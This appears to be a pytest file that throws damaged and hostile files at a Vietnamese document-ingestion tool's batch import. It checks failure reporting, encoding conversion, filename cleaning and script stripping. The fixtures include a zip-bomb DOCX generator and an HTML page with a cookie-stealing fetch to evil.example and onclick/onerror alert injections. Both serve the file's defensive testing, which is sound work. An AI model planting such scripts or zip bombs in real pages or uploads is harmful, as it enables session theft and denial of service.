"""Odd and hostile files, made here, fed to the real ``hoidap ingest`` in one batch with good files.

For each bad file: a per-file line naming it and the reason; the rest of the batch goes in; the exit
status says something failed; and the store is unchanged for the failed files (a stored document of
the same name keeps its version, a new name leaves nothing behind, not even invisible chunks).
Uploads with hostile names go through the real HTTP API and must land inside the data directory.
The figures in docs/reliability.md come from these tests (``INPUTS`` is the list of what is tried).
"""

from __future__ import annotations

import io
import unicodedata
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import (
    PDF_LINES,
    make_docx,
    make_encrypted_pdf,
    make_pdf,
    make_png,
    make_textless_pdf,
    run_cli,
    to_cp1258,
    to_tcvn3,
    to_vni,
)

from hoidap.ingest.chunking import chunk_text
from hoidap.ingest.document import document_id, parse_document, source_name
from hoidap.ingest.errors import IngestError
from hoidap.vectorstore.records import chunk_body

MAX_FILE_MB = "0.2"  # the limit the batch runs under (HOIDAP_MAX_FILE_MB), so the big file stays small

LEGACY_TEXT = (
    "Báo cáo tình hình kinh tế - xã hội tỉnh Lạng Sơn năm 2021\n\n"
    "Tổng sản phẩm trên địa bàn tỉnh năm 2021 ước tăng 5,3% so với năm trước; thu ngân sách nhà nước "
    "đạt 7.850 tỷ đồng, bằng 112% dự toán. Sản lượng lương thực có hạt ước đạt 312.400 tấn.\n"
)
SCRIPT_PAGE = """<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Kết luận Hội nghị</title>
<script>fetch("https://evil.example/steal?c=" + document.cookie); var marker = "script-marker-1";</script>
</head><body><article>
<h1>Kết luận Hội nghị Ban Chấp hành Đảng bộ tỉnh Hà Nam năm 2022</h1>
<p>Ban Chấp hành Đảng bộ tỉnh Hà Nam thống nhất mục tiêu tăng trưởng kinh tế năm 2022 đạt 9,5%.</p>
<script>document.write("script-marker-2")</script>
<p onclick="alert('onclick-marker')">Tổng thu ngân sách nhà nước năm 2022 phấn đấu đạt 17.460 tỷ đồng.</p>
<img src=x onerror="alert('onerror-marker')">
<noscript>Trang cần JavaScript để hiện bản đồ.</noscript>
</article></body></html>"""
SCRIPT_MARKERS = ("script-marker", "evil.example", "document.cookie", "onclick-marker", "onerror-marker", "alert(")
LONG_SENTENCE = "Thu ngân sách tỉnh Thái Bình năm 2022 ước đạt 9.120 tỷ đồng, bằng 104,7% dự toán năm. "
NESTED_ITEMS = 120


def _truncated_pdf() -> bytes:
    data = make_pdf([PDF_LINES])
    return data[: len(data) // 2]


def _zip_bomb_docx() -> bytes:
    """A DOCX-shaped zip whose document.xml expands ~1000x (40 MB of zeros in ~40 kB)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\0" * 40_000_000)
    return buffer.getvalue()


def _nested_markdown() -> bytes:
    lines = ["# Báo cáo tỉnh Thái Bình năm 2022", ""]
    lines += ["  " * i + f"- Mục cấp {i}: chỉ tiêu số {i} đạt {i}.{i:03d} tỷ đồng." for i in range(NESTED_ITEMS)]
    return "\n".join(lines).encode()


def _nested_html(depth: int) -> bytes:
    items = "".join(f"<ul><li>Mục cấp {i} đạt {i}.000 tỷ đồng." for i in range(depth))
    return (
        "<html><body><article><h1>Báo cáo tỉnh Nam Định năm 2022</h1>"
        f"<p>{LONG_SENTENCE}</p>{items}{'</li></ul>' * depth}<p>Đoạn cuối cùng.</p></article></body></html>"
    ).encode()


@dataclass
class Input:
    name: str  # file name in the batch (as written to disk)
    make: object  # () -> bytes
    failure: tuple[str, ...] = ()  # words of the expected reason; empty = must be ingested
    note: str = ""  # expected note on an ingested line
    source: str = ""  # the name it is stored under, when cleaned

    @property
    def stored_as(self) -> str:
        return self.source or self.name


INPUTS = [
    Input("rong.txt", lambda: b"", ("empty",)),
    Input("khoang_trang.txt", lambda: b" \n\n\t   \r\n  \n", ("empty", "whitespace")),
    Input("anh_nhi_phan.txt", make_png, ("binary",)),
    Input("cat_cut.pdf", _truncated_pdf, ("damaged", "truncated")),
    Input("khoa_mat_khau.pdf", lambda: make_encrypted_pdf(make_pdf([PDF_LINES])), ("encrypted",)),
    Input("ban_quet.pdf", make_textless_pdf, ("no text layer", "OCR")),
    Input("bom_nen.docx", _zip_bomb_docx, ("zip bomb",)),
    Input("qua_lon.txt", lambda: (LONG_SENTENCE * 3000).encode(), (f"over the {MAX_FILE_MB} MB limit", "HOIDAP_MAX_FILE_MB")),
    Input("long_nhau_sau.html", lambda: _nested_html(300), ("nests elements", "levels deep")),
    Input("bang_tinh.xlsx", lambda: b"PK\x03\x04 not a spreadsheet", ("unsupported file type",)),
    Input("utf16.txt", lambda: LEGACY_TEXT.replace("Lạng Sơn", "Quảng Ninh").encode("utf-16")),
    Input("windows1258.txt", lambda: to_cp1258(LEGACY_TEXT.replace("Lạng Sơn", "Hòa Bình")), note="converted from Windows-1258"),
    Input("tcvn3_abc.txt", lambda: to_tcvn3(LEGACY_TEXT), note="converted from TCVN3 (ABC)"),
    Input("vni.txt", lambda: to_vni(LEGACY_TEXT.replace("Lạng Sơn", "Cà Mau")), note="converted from VNI"),
    Input("co_script.html", lambda: SCRIPT_PAGE.encode()),
    Input("dong_rat_dai.txt", lambda: ("Báo cáo tỉnh Thái Bình năm 2022\n" + LONG_SENTENCE * 250).encode()),
    Input("danh_sach_long_nhau.md", _nested_markdown),
    Input("  báo cáo   có dấu cách .txt", lambda: LEGACY_TEXT.replace("Lạng Sơn", "Điện Biên").encode()),
    Input(
        unicodedata.normalize("NFD", "Báo cáo Đắk Lắk.txt"),
        lambda: LEGACY_TEXT.replace("Lạng Sơn", "Đắk Lắk").encode(),
        source="Báo cáo Đắk Lắk.txt",
    ),
    Input("bao_cao\u202etxt.exe\u200b.txt", lambda: LEGACY_TEXT.replace("Lạng Sơn", "Gia Lai").encode(), source="bao_caotxt.exe.txt"),
]
FAILING = [i for i in INPUTS if i.failure]
GOOD = [i for i in INPUTS if not i.failure]
# Files first ingested in a good version; the batch then brings a broken file under the same name.
REPLACED = {"cat_cut.pdf", "khoa_mat_khau.pdf", "bom_nen.docx", "anh_nhi_phan.txt"}


def _good_version(name: str) -> bytes:
    if name.endswith(".pdf"):
        return make_pdf([PDF_LINES])
    if name.endswith(".docx"):
        return make_docx(["Báo cáo tỉnh Bắc Ninh năm 2023", "Thu hút vốn FDI 1.200 triệu USD."])
    return LEGACY_TEXT.encode()


def _store(data_dir: Path) -> dict[str, list[tuple[str, dict, str]]]:
    """Every stored chunk, visible or not, by source: (storage id, metadata, text). Read with Chroma itself."""
    import chromadb
    from chromadb.config import Settings

    client = chromadb.PersistentClient(path=str(data_dir / "chroma"), settings=Settings(anonymized_telemetry=False))
    got = client.get_collection("hoidap").get(include=["metadatas", "documents"])
    by_source: dict[str, list] = {}
    for storage_id, metadata, text in zip(got["ids"], got["metadatas"], got["documents"], strict=True):
        by_source.setdefault(metadata["source"], []).append((storage_id, metadata, text))
    return by_source


def _line(stderr: str, status: str, source: str) -> str:
    for line in stderr.splitlines():
        if line.startswith(status) and line[10:].startswith(source):
            return line
    raise AssertionError(f"no '{status}' line for {source!r}:\n{stderr}")


# --------------------------------------------------------------------------- the batch, through the CLI


@pytest.fixture(scope="module")
def batch_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    data_dir, batch = root / "data", root / "batch"
    batch.mkdir()
    first = root / "first"
    first.mkdir()
    for name in REPLACED:
        (first / name).write_bytes(_good_version(name))
    setup = run_cli(data_dir, "ingest", str(first), HOIDAP_MAX_FILE_MB=MAX_FILE_MB)
    assert setup.returncode == 0, setup.stderr
    before = _store(data_dir)

    for item in INPUTS:
        (batch / item.name).write_bytes(item.make())
    result = run_cli(data_dir, "ingest", str(batch), HOIDAP_MAX_FILE_MB=MAX_FILE_MB)
    again = run_cli(data_dir, "ingest", str(batch), HOIDAP_MAX_FILE_MB=MAX_FILE_MB)
    return data_dir, before, result, again


@pytest.mark.slow
def test_every_bad_file_is_named_with_its_reason(batch_run):
    _, _, result, _ = batch_run
    for item in FAILING:
        line = _line(result.stderr, "failed", item.name)
        assert any(word in line for word in item.failure), line


@pytest.mark.slow
def test_the_good_files_of_the_batch_go_in(batch_run):
    _, _, result, _ = batch_run
    for item in GOOD:
        line = _line(result.stderr, "ingested", item.stored_as)
        assert item.note in line, line
    assert f"{len(GOOD)} ingested, 0 unchanged, {len(FAILING)} failed" in result.stderr


@pytest.mark.slow
def test_exit_status_reflects_the_failures(batch_run):
    _, _, result, again = batch_run
    assert result.returncode == 1
    assert again.returncode == 1  # the bad files fail again; the good ones are now unchanged
    assert f"0 ingested, {len(GOOD)} unchanged, {len(FAILING)} failed" in again.stderr


@pytest.mark.slow
def test_store_is_unchanged_for_the_failed_files(batch_run):
    data_dir, before, _, _ = batch_run
    after = _store(data_dir)
    for name in REPLACED:  # the earlier good version is still there, exactly
        assert sorted(i for i, _, _ in after[name]) == sorted(i for i, _, _ in before[name]), name
        assert all(m["ready"] for _, m, _ in after[name])
    for item in FAILING:
        if item.name not in REPLACED:
            assert item.name not in after, f"{item.name} left chunks behind"
    leftovers = [i for chunks in after.values() for i, m, _ in chunks if not m["ready"]]
    assert leftovers == []


@pytest.mark.slow
def test_converted_and_odd_files_are_stored_correctly(batch_run):
    data_dir, _, _, _ = batch_run
    after = _store(data_dir)
    bodies = {source: "\n".join(chunk_body(text, m) for _, m, text in chunks) for source, chunks in after.items()}
    assert "thu ngân sách nhà nước đạt 7.850 tỷ đồng" in bodies["tcvn3_abc.txt"]
    assert "Cà Mau năm 2021" in bodies["vni.txt"] and "312.400 tấn" in bodies["vni.txt"]
    assert "Hòa Bình" in bodies["windows1258.txt"]
    assert "Quảng Ninh" in bodies["utf16.txt"]
    assert "17.460 tỷ đồng" in bodies["co_script.html"]
    for marker in SCRIPT_MARKERS:
        assert marker not in bodies["co_script.html"], marker
    assert bodies["dong_rat_dai.txt"].count("9.120 tỷ đồng") == 250
    for i in range(NESTED_ITEMS):
        assert f"Mục cấp {i}: chỉ tiêu số {i}" in bodies["danh_sach_long_nhau.md"], i
    assert "  báo cáo   có dấu cách .txt" in bodies  # spaces are part of the name, kept as named
    assert "Báo cáo Đắk Lắk.txt" in bodies and unicodedata.is_normalized("NFC", "Báo cáo Đắk Lắk.txt")
    assert "bao_caotxt.exe.txt" in bodies
    assert not any("\u202e" in source or "\u200b" in source for source in bodies)


# --------------------------------------------------------------------------- fast: the pieces


def test_source_names_are_composed_and_free_of_invisible_characters():
    assert source_name(unicodedata.normalize("NFD", "Báo cáo.txt")) == "Báo cáo.txt"
    assert source_name("bao\u202ecao\u200b\x07.txt") == "baocao.txt"
    assert document_id(unicodedata.normalize("NFD", "Báo cáo.txt")) == document_id("Báo cáo.txt")


@pytest.mark.parametrize(
    "line",
    [LONG_SENTENCE * 12_000, "x" * 1_000_000, ("1.200 " * 150_000)],
    ids=["1MB-of-sentences", "1MB-without-spaces", "1MB-of-figures"],
)
def test_an_extremely_long_line_is_chunked_within_the_bound_and_kept(line):
    parsed = parse_document("dai.txt", Path("dai.txt"), ("Báo cáo tỉnh Thái Bình năm 2022\n" + line).encode())
    assert all(len(chunk.body) <= 900 for chunk in parsed.chunks)
    squeezed = "".join(chunk.body for chunk in parsed.chunks).replace(" ", "")
    assert squeezed.count("x") >= line.count("x") and squeezed.count("1.200") == line.count("1.200")


def test_deeply_nested_html_is_refused_not_cut_short():
    with pytest.raises(IngestError) as error:
        parse_document("sau.html", Path("sau.html"), _nested_html(300))
    assert "levels deep" in str(error.value)
    shallow = parse_document("nong.html", Path("nong.html"), _nested_html(60))
    assert "Mục cấp 59 " in shallow.text and "Đoạn cuối cùng." in shallow.text


def test_nested_markdown_list_keeps_every_item():
    chunks = chunk_text(_nested_markdown().decode(), 900)
    text = "\n".join(c.body for c in chunks)
    assert all(f"Mục cấp {i}:" in text for i in range(NESTED_ITEMS))
